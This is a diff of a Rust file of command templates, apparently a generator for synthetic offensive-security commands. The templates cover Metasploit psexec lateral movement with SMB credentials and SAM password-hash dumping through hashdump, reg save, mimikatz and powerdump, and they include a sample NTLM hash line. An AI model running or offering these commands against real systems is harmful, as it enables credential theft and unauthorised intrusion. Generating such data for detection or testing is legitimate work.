@@ -24,7 +24,7 @@ const MSFRC: &[&str] = &[
         r"msfconsole -q -x 'use exploit/windows/smb/psexec; set RHOSTS {rhost}; set SMBUser {user}; ",
         r#"set SMBPass {password}; set AutoRunScript "{mod}"; run'"#,
     ),
-    r"echo «-e »'use {mod}\nset SESSION {1..9}\nrun' > {stem}.rc && msfconsole -r {stem}.rc",
+    r"echo «-e »'use {mod}\nset SESSION {1..9}\nrun' > {stem.1}.rc && msfconsole -r {stem.1}.rc",
     r#"msfconsole -qx "sessions -C {mp}""#,
     r"use {aux}⏎set RHOSTS {rhost}⏎set SMBUser {user}⏎set SMBPass {password}⏎run",
     r#"msfconsole -x "use {aux}; set RHOSTS {rhost}; set SMBUser {user}; set SMBPass {password}; run""#,
@@ -108,7 +108,7 @@ pub const FAMILIES: &[Family] = &[
             r"{hivefile} {outfile}»",
         )), ("bt", "«dump hashes¦dump password hashes¦dump SAM hashes¦run mimikatz's lsadump::sam command»"), ("res", "Administrator:500:aad3b435b51404eeaad3b435b51404ee:{hex32}:::"), ("s", concat!(
             "«hashdump¦registry read --hive HKLM SAM\\SAM\\Domains\\Account F¦execute -o reg.exe save ",
-            "HKLM\\{whole} {stem}¦hashdump -h {plainhost}¦bof-reg-save HKLM SAM¦samdump¦credman-sam¦",
+            "HKLM\\{whole} {stem}¦hashdump -h {plainhost}¦bof-reg-save HKLM SAM¦samdump¦",
             "shell reg save HKLM\\SAM {outfile}»",
         )), ("e", concat!(
             "«usemodule «powershell/»credentials/powerdump¦usemodule credentials/powerdump*¦",
